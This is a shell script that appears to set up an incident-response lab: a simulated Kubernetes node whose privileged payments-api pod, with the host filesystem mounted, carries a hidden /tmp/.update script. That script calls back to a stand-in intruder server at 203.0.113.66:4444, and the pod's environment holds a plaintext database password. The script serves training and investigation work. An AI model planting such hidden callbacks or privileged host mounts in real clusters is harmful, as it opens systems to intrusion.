# shellcheck shell=dash
# The programs of the lab's node, sourced by init: a small GKE node with five pods, and an intruder in one of them.
# "capture.sh --workload FILE" uses another file in its place.

NODE=gke-shop-default-pool-7f3a91c2-k4zd
NODE_IP=10.128.0.7
CGROUP=/sys/fs/cgroup
CONTAINERD=/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots
TASKS=/run/containerd/io.containerd.runtime.v2.task/k8s.io
snapshot=0
veth=0

# --- The network: eth0 is one end of a cable to a namespace that represents the rest of the world.

hostname $NODE
echo 1 >/proc/sys/net/ipv4/ip_forward
ip link set lo up
# cable NAME PEER: makes a veth pair; busybox's ip cannot name the peer, so the kernel names it veth0
cable() {
    ip link add "$1" type veth
    ip link set veth0 name "$2"
}
cable eth0 wan
unshare -n /usr/bin/internet --listen 443 --listen 4444 &
internet=$!
sleep 1
ip link set wan netns $internet
outside() {
    nsenter -t $internet -n "$@"
}
outside ip link set lo up
outside ip addr add 10.128.0.1/20 dev wan
outside ip addr add 10.128.0.2/32 dev wan # the API server
outside ip addr add 203.0.113.66/32 dev lo # the intruder's server
outside ip link set wan up
outside ip route add 10.4.0.0/24 via $NODE_IP
ip addr add $NODE_IP/20 dev eth0
ip link set eth0 up
ip route add default via 10.128.0.1

# --- The node's own services.

# service SLICE-PATH COMMAND…: starts a command in a cgroup, as systemd does
service() {
    unit=$CGROUP/$1
    shift
    mkdir -p "$unit"
    sh -c 'echo $$ >"$0/cgroup.procs"; exec "$@"' "$unit" "$@" </dev/null >/dev/null 2>&1 &
}

mkdir -p /run/containerd /run/pods /var/log/pods /var/lib/kubelet/pods
service system.slice/ssh.service /usr/sbin/sshd --listen 22 --title "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"
service system.slice/kubelet.service /usr/bin/kubelet --threads 6 --listen 10250 --connect 10.128.0.2:443 \
    --config=/etc/kubernetes/kubelet.yaml --node-ip=$NODE_IP

# --- Pods: pod … ; container … ; container … ; run

id() {
    echo "$1" | sha256sum | cut -c1-64
}

# root ID PROGRAM…: makes an image with a shell and the named programs, and mounts it as containerd does
root() {
    snapshot=$((snapshot + 2))
    lower=$CONTAINERD/$snapshot/fs
    upper=$CONTAINERD/$((snapshot + 1))
    mkdir -p $lower/bin $lower/etc $lower/tmp $lower/dev $lower/proc $lower/sys $lower/old "$upper/fs" "$upper/work" "$TASKS/$1/rootfs"
    ln /bin/busybox $lower/bin/sh
    mkdir -p "$lower/$(dirname "$2")"
    ln /usr/bin/lab "$lower/$2"
    mount -t overlay overlay -o "lowerdir=$lower,upperdir=$upper/fs,workdir=$upper/work" "$TASKS/$1/rootfs"
}

# pod NAMESPACE NAME UID QOS ADDRESS|host
pod() {
    namespace=$1 name=$2 uid=$3 qos=$4 address=$5
    unit=$(echo "$uid" | tr - _)
    case $qos in
        guaranteed) slice=kubepods.slice/kubepods-pod$unit.slice ;;
        *) slice=kubepods.slice/kubepods-$qos.slice/kubepods-$qos-pod$unit.slice ;;
    esac
    volumes=/var/lib/kubelet/pods/$uid
    token=$volumes/volumes/kubernetes.io~projected/kube-api-access-$(echo "$uid" | cut -c1-5)
    mkdir -p "$token" "$volumes/containers" /run/pods
    mount -t tmpfs -o size=64k tmpfs "$token"
    echo "$namespace" >"$token/namespace"
    echo "eyJhbGciOiJSUzI1NiJ9.lab.$uid" >"$token/token"
    echo "127.0.0.1 localhost" >"$volumes/etc-hosts"
    sandbox=$(id "$name/sandbox")
    script=/run/pods/$name.sh
    network=--host-network
    [ "$address" = host ] || network="--hostname $name"
    mkdir -p "$CGROUP/$slice/cri-containerd-$sandbox.scope"
    root "$sandbox" pause
    echo "lab container --cgroup $CGROUP/$slice/cri-containerd-$sandbox.scope $network --root $TASKS/$sandbox/rootfs" \
        "--user 65535 --pidfile /run/pods/$name.pid -- /pause" >"$script"
}

# container NAME "OPTIONS" PROGRAM ARGUMENTS…: adds a container to the pod named last. Its environment includes VARIABLES.
# EXTRA is a script for its /tmp/.update, with the lab's program beside it as .kit.
container() {
    container=$1 options=$2
    shift 2
    cid=$(id "$name/$container")
    log=/var/log/pods/${namespace}_${name}_$uid/$container
    mkdir -p "$CGROUP/$slice/cri-containerd-$cid.scope" "$volumes/containers/$container" "$log"
    : >"$volumes/containers/$container/$(echo "$cid" | cut -c1-8)"
    : >"$log/0.log"
    logs="$logs --open $log/0.log"
    root "$cid" "$1"
    [ -n "$EXTRA" ] && cp "$EXTRA" "$TASKS/$cid/rootfs/tmp/.update" && ln -s "$1" "$TASKS/$cid/rootfs/tmp/.kit"
    cat >>"$script" <<END
env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOSTNAME=$([ "$address" = host ] && echo $NODE || echo "$name") \
KUBERNETES_SERVICE_HOST=10.8.0.1 KUBERNETES_SERVICE_PORT=443 $VARIABLES \
/usr/bin/lab container --cgroup $CGROUP/$slice/cri-containerd-$cid.scope --join \$(cat /run/pods/$name.pid) --root $TASKS/$cid/rootfs \
--bind $volumes/etc-hosts:/etc/hosts --bind $volumes/containers/$container/$(echo "$cid" | cut -c1-8):/dev/termination-log \
--bind $token:/var/run/secrets/kubernetes.io/serviceaccount:ro $options -- $* </dev/null >>$log/0.log 2>&1
END
}

# run: starts the shim, which starts the pod, and connects the pod's network
run() {
    printf '%s\n' '#!/bin/sh' "$(cat "$script")" >"$script"
    service "system.slice/containerd.service" /usr/bin/containerd-shim-runc-v2 --reap --spawn "$script" --title \
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id $sandbox -address /run/containerd/containerd.sock"
    while [ ! -s "/run/pods/$name.pid" ]; do
        sleep 1
    done
    [ "$address" = host ] && return
    veth=$((veth + 1))
    pause=$(cat "/run/pods/$name.pid")
    cable "gke$veth" "pod$veth"
    ip link set "pod$veth" netns "$pause"
    inside() {
        nsenter -t "$pause" -n "$@"
    }
    inside ip link set lo up
    inside ip link set "pod$veth" name eth0
    inside ip addr add "$address/32" dev eth0
    inside ip link set eth0 up
    inside ip route add 10.4.0.1/32 dev eth0
    inside ip route add default via 10.4.0.1
    ip addr add 10.4.0.1/32 dev "gke$veth"
    ip link set "gke$veth" up
    ip route add "$address/32" dev "gke$veth"
}

logs=

pod kube-system kube-proxy-7hx4k 4be19f1e-2c0d-4d7a-9a51-5d3c1f0e7a11 burstable host
container kube-proxy --privileged /usr/local/bin/kube-proxy --listen 10256 --connect 10.128.0.2:443 --config=/var/lib/kube-proxy/config.conf
run

pod monitoring node-exporter-qm2vz 9c6fd0b2-77aa-4c43-8e0f-0c5b8a2d4e22 burstable host
container node-exporter "--host-pid --user 65534 --bind /:/host/root:ro" /bin/node_exporter --listen 9100 --path.rootfs=/host/root
run

pod shop redis-0 e2a7c9d4-5b1f-4f6e-b3c8-91d0a6f73b33 guaranteed 10.4.0.10
container redis "--user 999" /usr/local/bin/redis-server --threads 4 --listen 6379 --title "'/usr/local/bin/redis-server *:6379'"
run

pod shop web-6b7f9c5d48-tn8wl 1d5e8a37-c94b-4b02-a7e6-3f8d2b6c9c44 burstable 10.4.0.11
VARIABLES=REDIS_URL=redis://10.4.0.10:6379 container web "" /usr/sbin/nginx --listen 80 --connect 10.4.0.10:6379 --title "'nginx: master process nginx -g daemon off;'" \
    --worker "'nginx: worker process'" --worker "'nginx: worker process'"
container log-agent "--user 1000" /fluent-bit/bin/fluent-bit --listen 2020 --connect 10.128.0.2:443 -c /fluent-bit/etc/fluent-bit.conf
run

# A forgotten debugging set-up: the container is privileged and has the node's file system. The intruder used it.
cat >/tmp/update <<'END'
/tmp/.kit intruder 203.0.113.66 4444
END
pod shop payments-api-5d9c7b6f48-x2kqp 7f0b3c68-ae52-4d19-8c74-b6e1d9a05d55 besteffort 10.4.0.12
VARIABLES="DB_HOST=10.4.0.20 DB_USER=payments DB_PASSWORD=correct-horse-battery-staple"
EXTRA=/tmp/update container payments-api "--privileged --bind /:/host" /app/payments-api --listen 8080 --connect 10.4.0.10:6379 --spawn /tmp/.update \
    --title "'/app/payments-api --port 8080'"
run
rm /tmp/update

# containerd keeps the pods' log files open, as the real containerd does.
# shellcheck disable=SC2086 # a list of options
service system.slice/containerd.service /usr/bin/containerd --title /usr/bin/containerd --threads 8 --unix /run/containerd/containerd.sock $logs
